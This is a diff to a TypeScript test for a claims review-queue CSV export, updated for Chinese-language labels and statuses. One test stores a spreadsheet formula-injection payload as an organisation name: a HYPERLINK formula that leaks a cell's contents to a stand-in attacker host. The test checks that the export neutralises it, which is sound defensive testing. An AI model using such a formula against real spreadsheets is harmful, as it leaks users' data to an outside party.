@@ -2,7 +2,8 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { createTestDatabase, type TestDatabase } from "@/tooling/db/test-database";
 import { assignClaimToReviewer } from "@/lib/review/assign-claim-to-reviewer";
 import Papa from "papaparse";
-import { exportReviewQueue, REVIEW_QUEUE_CSV_HEADER } from "@/lib/review/export-review-queue";
+import { exportLabels } from "@/lib/exports/export-labels";
+import { exportReviewQueue, REVIEW_QUEUE_COLUMNS } from "@/lib/review/export-review-queue";
 import { iterateReviewQueue, listReviewQueue, queueFilterSchema } from "@/lib/review/list-review-queue";
 import { institution, reviewer, submittedOffshoreClaim, submittedTrainingClaim, uniqueResidentId } from "./review-fixtures";
 import { DATABASE_KINDS, applyTestSecrets as applyTestSecrets } from "./test-env";
@@ -63,15 +64,18 @@ describe.each(DATABASE_KINDS)("review queue on %s", (kind) => {
   it("exports the queue as CSV with a hostile organisation name neutralised and the numbers left numbers", async () => {
     const hostile = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")';
     await db.prisma.organisation.update({ where: { id: small.enterprise.organisation.id }, data: { nameZh: hostile } });
-    const stream = await exportReviewQueue(db.prisma, { id: me.id, role: "REVIEWER" }, queueFilterSchema.parse({}));
+    const stream = await exportReviewQueue(db.prisma, { id: me.id, role: "REVIEWER" }, queueFilterSchema.parse({}), { format: "csv", labels: exportLabels("zh-CN") });
     // ignoreBOM: keep the byte-order mark in the text, to see that the file has one.
     const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await new Response(stream).arrayBuffer());
     expect(text.startsWith("\uFEFF")).toBe(true);
     const [header, ...rows] = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
-    expect(header).toEqual(REVIEW_QUEUE_CSV_HEADER);
+    expect(header).toEqual(["申报编号", "类型", "申报单位", "区县", "年度", "状态", "金额（元）", "提交时间（北京时间）", "审核人", "需关注", "申报金额（元）", "封顶原因", "关注原因"]);
     expect(rows).toHaveLength(3);
-    const row = Object.fromEntries(REVIEW_QUEUE_CSV_HEADER.map((column, i) => [column, rows.find((r) => r[0] === small.claim.claimNo)![i]]));
-    expect(row).toMatchObject({ organisation: `'${hostile}`, claimYear: "2024", amountYuan: "60000.00", flagged: "0", status: "UNDER_REVIEW" });
+    const keys = REVIEW_QUEUE_COLUMNS.map((c) => c.key);
+    const row = Object.fromEntries(keys.map((column, i) => [column, rows.find((r) => r[0] === small.claim.claimNo)![i]]));
+    // Codes in the reader's language, the amount in yuan, the submission in China time.
+    expect(row).toMatchObject({ kind: "离岸业务奖励", organisation: `'${hostile}`, claimYear: "2024", amountYuan: "60000.00", flagged: "否", status: "审核中" });
+    expect(row.submittedAt).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
     // No cell of the file starts a formula.
     expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
     // The export is audited before its first byte.
